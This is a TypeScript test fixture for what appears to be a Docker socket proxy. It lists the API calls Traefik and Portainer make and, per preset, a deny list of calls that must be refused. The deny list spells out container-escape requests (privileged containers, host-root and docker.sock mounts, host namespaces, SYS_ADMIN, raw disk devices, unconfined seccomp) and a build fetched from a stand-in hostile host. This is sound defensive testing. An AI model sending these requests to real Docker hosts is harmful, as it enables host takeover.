import type { OperationName } from '../../../src/api/operations.ts'
import type { Body } from './client.ts'
import { tar } from './tar.ts'

/** A call as the program makes it. `{container}`, `{image}`, `{network}`, `{exec}` stand for objects that the test has made. */
export interface Call {
  readonly operation: OperationName
  readonly method: string
  readonly path: string
  readonly body?: Body
}

const get = (operation: OperationName, path: string): Call => ({ operation, method: 'GET', path })
const drop = (operation: OperationName, path: string): Call => ({ operation, method: 'DELETE', path })
const post = (operation: OperationName, path: string, json?: object, headers?: Record<string, string>): Call => ({
  operation,
  method: 'POST',
  path,
  body: { ...(json === undefined ? { type: 'text/plain' } : { json }), ...(headers === undefined ? {} : { headers }) },
})

/** Events of the last second: the stream ends by itself. */
const EVENTS = `/events?since=${Math.floor(Date.now() / 1000) - 1}&until=${Math.floor(Date.now() / 1000)}`
const REGISTRY = { 'X-Registry-Auth': Buffer.from('{}').toString('base64url') }

/** traefik v3, pkg/provider/docker: pdocker.go, pswarm.go, shared.go. Its client is moby's, which pings first. */
export const traefik: readonly Call[] = [
  { operation: 'SystemPingHead', method: 'HEAD', path: '/_ping' },
  get('SystemVersion', '/version'),
  get('ContainerList', '/containers/json'),
  get('ContainerInspect', '/containers/{container}/json'),
  get('SystemEvents', `${EVENTS}&filters=${encodeURIComponent('{"type":{"container":true}}')}`),
  get('ServiceList', '/services'),
  get('NetworkList', `/networks?filters=${encodeURIComponent('{"scope":{"swarm":true}}')}`),
  get('TaskList', `/tasks?filters=${encodeURIComponent('{"desired-state":{"running":true}}')}`),
  get('NodeInspect', '/nodes/nosuch'),
]

/**
 * portainer/portainer 2.x. The pages call through its own proxy (app/react/docker/**: buildDockerProxyUrl), its server with
 * moby's client (api/docker/snapshot.go, api/docker/container.go, api/docker/images, api/internal/upgrade) and for the
 * console raw (api/http/handler/websocket). Stacks are Compose's work, `docker cp` within included.
 */
export const portainer: readonly Call[] = [
  get('SystemPing', '/_ping'),
  get('SystemVersion', '/version'),
  get('SystemInfo', '/info'),
  get('SystemEvents', EVENTS),
  get('SystemDataUsage', '/system/df'),
  get('PluginList', '/plugins'),
  get('SwarmInspect', '/swarm'),
  post('ContainerCreate', '/containers/create?name={other}', { Image: 'busybox', Cmd: ['sleep', '600'] }),
  get('ContainerList', '/containers/json?all=1'),
  get('ContainerInspect', '/containers/{container}/json'),
  get('ContainerTop', '/containers/{container}/top'),
  get('ContainerStats', '/containers/{container}/stats?stream=false&one-shot=true'),
  get('ContainerLogs', '/containers/{container}/logs?stdout=1&stderr=1&tail=100'),
  post('ContainerExec', '/containers/{container}/exec', { Cmd: ['true'], AttachStdout: true, Tty: true }),
  post('ContainerResize', '/containers/{container}/resize?h=24&w=80'),
  post('ContainerUpdate', '/containers/{container}/update', { RestartPolicy: { Name: 'no' } }),
  post('ContainerPause', '/containers/{container}/pause'),
  post('ContainerUnpause', '/containers/{container}/unpause'),
  post('ContainerStart', '/containers/{other}/start'),
  post('ContainerRestart', '/containers/{other}/restart?t=0'),
  post('ContainerKill', '/containers/{other}/kill'),
  post('ContainerStop', '/containers/{other}/stop?t=0'),
  post('ContainerRename', '/containers/{other}/rename?name={other}-old'),
  post('NetworkCreate', '/networks/create', { Name: '{other}-net' }),
  get('NetworkList', '/networks'),
  get('NetworkInspect', '/networks/{other}-net'),
  post('NetworkConnect', '/networks/{other}-net/connect', { Container: '{container}' }),
  post('NetworkDisconnect', '/networks/{other}-net/disconnect', { Container: '{container}', Force: true }),
  drop('NetworkDelete', '/networks/{other}-net'),
  post('VolumeCreate', '/volumes/create', { Name: '{other}-vol' }),
  get('VolumeList', `/volumes?filters=${encodeURIComponent('{"dangling":["true"]}')}`),
  get('VolumeInspect', '/volumes/{other}-vol'),
  drop('VolumeDelete', '/volumes/{other}-vol'),
  get('ImageList', '/images/json'),
  get('ImageInspect', '/images/busybox/json'),
  get('ImageHistory', '/images/busybox/history'),
  post('ImageTag', '/images/busybox/tag?repo={other}&tag=one'),
  get('ImageGetAll', '/images/get?names={other}:one'),
  post('ImagePush', '/images/127.0.0.1:1/nosuch/push?tag=one', undefined, REGISTRY),
  post('ImageCreate', '/images/create?fromImage=127.0.0.1:1/nosuch&tag=one', undefined, REGISTRY),
  get('DistributionInspect', '/distribution/127.0.0.1:1/nosuch/json'),
  {
    operation: 'ImageLoad',
    method: 'POST',
    path: '/images/load',
    body: { bytes: tar({ 'manifest.json': '[]' }), type: 'application/x-tar' },
  },
  {
    operation: 'ImageBuild',
    method: 'POST',
    path: '/build?t={other}:built',
    body: { bytes: tar({ Dockerfile: 'FROM busybox\nLABEL a=b\n' }), type: 'application/x-tar' },
  },
  {
    operation: 'PutContainerArchive',
    method: 'PUT',
    path: '/containers/{container}/archive?path=/tmp',
    body: { bytes: tar({ config: 'of a stack\n' }), type: 'application/x-tar' },
  },
  post('ImageCommit', '/commit?container={container}&repo={other}&tag=two', {}),
  drop('ImageDelete', '/images/{other}:one?force=true'),
  drop('ImageDelete', '/images/{other}:two'),
  drop('ImageDelete', '/images/{other}:built'),
  drop('ContainerDelete', '/containers/{other}-old?v=1&force=true'),
  get('ServiceList', '/services'),
  post('ServiceCreate', '/services/create', { Name: 's', TaskTemplate: { ContainerSpec: { Image: 'busybox' } } }),
  get('ServiceInspect', '/services/nosuch'),
  post('ServiceUpdate', '/services/nosuch/update?version=1', {}),
  get('ServiceLogs', '/services/nosuch/logs?stdout=1'),
  drop('ServiceDelete', '/services/nosuch'),
  get('TaskList', '/tasks'),
  get('TaskInspect', '/tasks/nosuch'),
  get('TaskLogs', '/tasks/nosuch/logs?stdout=1'),
  get('NodeList', '/nodes'),
  get('NodeInspect', '/nodes/nosuch'),
  post('NodeUpdate', '/nodes/nosuch/update?version=1', {}),
  get('SecretList', '/secrets'),
  get('SecretInspect', '/secrets/nosuch'),
  post('SecretCreate', '/secrets/create', { Name: 's', Data: '' }),
  drop('SecretDelete', '/secrets/nosuch'),
  get('ConfigList', '/configs'),
  get('ConfigInspect', '/configs/nosuch'),
  post('ConfigCreate', '/configs/create', { Name: 'c', Data: '' }),
  drop('ConfigDelete', '/configs/nosuch'),
]

const CREATE = '/containers/create'
const evil = (host: object): Call => post('ContainerCreate', CREATE, { Image: 'busybox', HostConfig: host })

const SWARM: readonly Call[] = [
  get('SwarmUnlockKey', '/swarm/unlockkey'),
  post('SwarmInit', '/swarm/init', { ListenAddr: '0.0.0.0:2377' }),
  post('SwarmJoin', '/swarm/join', {}),
  post('SwarmLeave', '/swarm/leave?force=1'),
  post('SwarmUpdate', '/swarm/update?version=1', {}),
  post('PluginPull', '/plugins/pull?remote=evil/plugin', []),
  post('PluginEnable', '/plugins/evil/enable'),
  post('PluginSet', '/plugins/evil/set', []),
  drop('PluginDelete', '/plugins/evil'),
  post('Grpc', '/grpc', undefined, { Connection: 'Upgrade', Upgrade: 'h2c' }),
]

const PRUNES: readonly Call[] = [
  post('ContainerPrune', '/containers/prune'),
  post('ImagePrune', '/images/prune'),
  post('VolumePrune', '/volumes/prune'),
  post('NetworkPrune', '/networks/prune'),
  post('BuildPrune', '/build/prune'),
]

const SERVICES: readonly Call[] = [
  post('ServiceCreate', '/services/create', { Name: 's', TaskTemplate: { ContainerSpec: { Image: 'busybox' } } }),
  post('SecretCreate', '/secrets/create', { Name: 's', Data: '' }),
  post('ConfigCreate', '/configs/create', { Name: 'c', Data: '' }),
  get('ConfigInspect', '/configs/nosuch'),
  post('NodeUpdate', '/nodes/nosuch/update?version=1', {}),
]

/** Calls that copy files out of containers and images, or into them. */
const FILES: readonly Call[] = [
  get('ContainerArchive', '/containers/{container}/archive?path=/etc'),
  { operation: 'ContainerArchiveInfo', method: 'HEAD', path: '/containers/{container}/archive?path=/etc' },
  {
    operation: 'PutContainerArchive',
    method: 'PUT',
    path: '/containers/{container}/archive?path=/',
    body: { bytes: tar({ x: '' }), type: 'application/x-tar' },
  },
  get('ContainerExport', '/containers/{container}/export'),
  get('ImageGet', '/images/busybox/get'),
  post('ImageCommit', '/commit?container={container}'),
  post('ImageLoad', '/images/load'),
  post('ImageBuild', '/build?remote=https://evil.example/x.git'),
  post('ImagePush', '/images/busybox/push', undefined, REGISTRY),
  get('ContainerAttachWebsocket', '/containers/{container}/attach/ws?stdin=1&stream=1'),
]

const OF_VERB = {
  start: 'ContainerStart',
  stop: 'ContainerStop',
  restart: 'ContainerRestart',
  kill: 'ContainerKill',
  pause: 'ContainerPause',
  unpause: 'ContainerUnpause',
} as const

/** Calls that a reader must not make: all of the above, and those that change a container. */
const CHANGES: readonly Call[] = [
  ...[...SWARM, ...PRUNES, ...SERVICES, ...FILES],
  post('ContainerCreate', CREATE, { Image: 'busybox' }),
  post('ContainerExec', '/containers/{container}/exec', { Cmd: ['id'] }),
  post('ContainerAttach', '/containers/{container}/attach?stdin=1&stream=1'),
  ...Object.entries(OF_VERB).map(([verb, operation]) => post(operation, `/containers/{container}/${verb}`)),
  post('ContainerRename', '/containers/{container}/rename?name=x'),
  post('ContainerUpdate', '/containers/{container}/update', { Memory: 1 << 24 }),
  drop('ContainerDelete', '/containers/{container}?force=1'),
  post('ImageCreate', '/images/create?fromImage=evil'),
  post('ImageTag', '/images/busybox/tag?repo=evil'),
  drop('ImageDelete', '/images/busybox?force=1'),
  post('VolumeCreate', '/volumes/create', {}),
  drop('VolumeDelete', '/volumes/nosuch'),
  post('NetworkCreate', '/networks/create', { Name: 'evil' }),
  drop('NetworkDelete', '/networks/nosuch'),
  post('SystemAuth', '/auth', { username: 'u', password: 'p', serveraddress: '127.0.0.1:1' }),
]

/** The calls that each preset must refuse. */
export const dangerous: Readonly<Record<string, readonly Call[]>> = {
  traefik: [...CHANGES, get('ContainerLogs', '/containers/{container}/logs?stdout=1'), get('SecretList', '/secrets')],
  'read-only': CHANGES,
  portainer: SWARM,
  watchtower: [...SWARM, ...PRUNES, ...SERVICES, ...FILES, post('VolumeCreate', '/volumes/create', {})],
  ci: [
    ...[...SWARM, ...PRUNES, ...SERVICES],
    evil({ Privileged: true }),
    evil({ Binds: ['/:/host'] }),
    evil({ Mounts: [{ Type: 'bind', Source: '/var/run/docker.sock', Target: '/s' }] }),
    evil({ NetworkMode: 'host' }),
    evil({ PidMode: 'host' }),
    evil({ IpcMode: 'host' }),
    evil({ UsernsMode: 'host' }),
    evil({ NetworkMode: 'container:{container}' }),
    evil({ VolumesFrom: ['{container}'] }),
    evil({ CapAdd: ['SYS_ADMIN'] }),
    evil({ Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda' }] }),
    evil({ SecurityOpt: ['seccomp=unconfined'] }),
    evil({ CgroupParent: '/' }),
    post('ContainerExec', '/containers/{container}/exec', { Cmd: ['id'], Privileged: true }),
    post('VolumeCreate', '/volumes/create', { Driver: 'local', DriverOpts: { type: 'none', o: 'bind', device: '/' } }),
  ],
}
